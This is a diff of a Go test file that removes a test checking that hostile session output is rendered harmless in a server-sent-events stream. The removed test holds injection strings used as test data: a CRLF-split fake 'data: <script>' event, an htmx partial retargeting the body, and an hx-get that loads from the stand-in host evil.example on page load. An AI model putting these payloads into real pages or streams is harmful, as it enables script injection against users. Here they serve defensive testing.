@@ -230,21 +230,6 @@ func TestStreamsEndWithTheServer(t *testing.T) {
 	}
 }
 
-func TestHostileOutputIsHarmlessInAStream(t *testing.T) {
-	s := newSite(t)
-	base := served(t, s)
-	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning})
-	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=0", ids[0]), "")
-	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`,
-		`<div hx-get="//evil.example" hx-trigger="load">`) {
-		s.Say(ids[0], said(text), text, call(text, text), answered(text, text, true))
-	}
-	s.Say(ids[0], said("the end."))
-	got := stream.until("the end.")
-	got = strings.ReplaceAll(got, `<hx-partial hx-target="#`, "")
-	mustBeHarmless(t, got)
-}
-
 func TestAnUnknownSessionHasNoStream(t *testing.T) {
 	s := newSite(t)
 	for _, path := range []string{"/sessions/99/stream", "/sessions/x/stream"} {
